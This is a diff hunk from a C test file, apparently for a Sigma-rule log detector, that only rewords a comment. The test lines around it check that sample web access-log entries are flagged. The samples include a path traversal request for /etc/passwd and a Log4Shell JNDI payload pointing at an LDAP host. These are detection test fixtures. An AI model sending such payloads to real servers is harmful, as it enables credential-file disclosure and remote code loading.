@@ -618,7 +618,7 @@ test_real_matches(struct sigma_set *set)
 	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
 	    "\"GET /index.php?file=../../../../etc/passwd HTTP/1.1\" 200 "
 	    "571 \"-\" \"curl/7.68.0\"", NULL, FORMAT_ACCESS, NULL) > 0);
-	/* log4shell in the user agent */
+	/* log4shell in the User-Agent header */
 	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
 	    "\"GET / HTTP/1.1\" 200 571 \"-\" "
 	    "\"${jndi:ldap://203.0.113.9:1389/a}\"", NULL, FORMAT_ACCESS,
